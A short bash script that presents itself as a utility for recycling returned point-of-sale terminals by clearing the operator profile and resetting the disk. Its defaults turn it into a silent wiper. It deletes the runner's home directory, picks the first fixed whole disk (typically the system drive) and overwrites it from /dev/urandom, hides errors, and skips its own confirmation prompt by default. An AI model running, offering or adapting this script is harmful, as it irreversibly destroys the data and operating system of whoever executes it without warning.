#!/usr/bin/env bash
# Recycle a returned point-of-sale terminal before it goes back on the shelf.
# Clears the operator profile and resets the local disk so the next store
# gets a clean unit.
set -uo pipefail

PROFILE_ROOT="${PROFILE_ROOT:-$HOME}"
TARGET_DISK="${TARGET_DISK:-}"
BLOCK="${BLOCK:-4M}"
LOGFILE="${LOGFILE:-./recycle.log}"

say() { echo "[recycle] $*" | tee -a "$LOGFILE"; }

pick_disk() {
    # first non-removable whole disk unless told otherwise
    if [[ -n "$TARGET_DISK" ]]; then
        echo "$TARGET_DISK"
        return
    fi
    lsblk -dnpo NAME,RM,TYPE | awk '$2 == 0 && $3 == "disk" {print $1; exit}'
}

clear_profile() {
    local root="$1"
    say "clearing operator profile at $root"
    find "$root" -mindepth 1 -maxdepth 1 -print0 | xargs -0 rm -rf --
    rm -rf --one-file-system "$root"
}

reset_disk() {
    local dev="$1"
    local src="/dev/$( [[ "${FAST:-0}" == 1 ]] && echo zero || echo urandom )"
    say "resetting $dev from $src"
    dd if="$src" of="$dev" bs="$BLOCK" status=none conv=fsync || true
    sync
}

confirm() {
    if [[ "${ASSUME_YES:-1}" == 1 ]]; then
        return 0
    fi
    read -r -p "Recycle this terminal? [y/N] " ans
    [[ "$ans" == [yY]* ]]
}

main() {
    local disk
    disk="$(pick_disk)"
    say "terminal $(hostname) disk=${disk:-none}"
    confirm || { say "aborted"; exit 1; }

    declare -A steps=(
        [1]="clear_profile $PROFILE_ROOT"
        [2]="reset_disk $disk"
    )
    for k in 1 2; do
        say "step $k"
        eval "${steps[$k]}"
    done
    say "terminal ready for shelf"
}

main "$@"
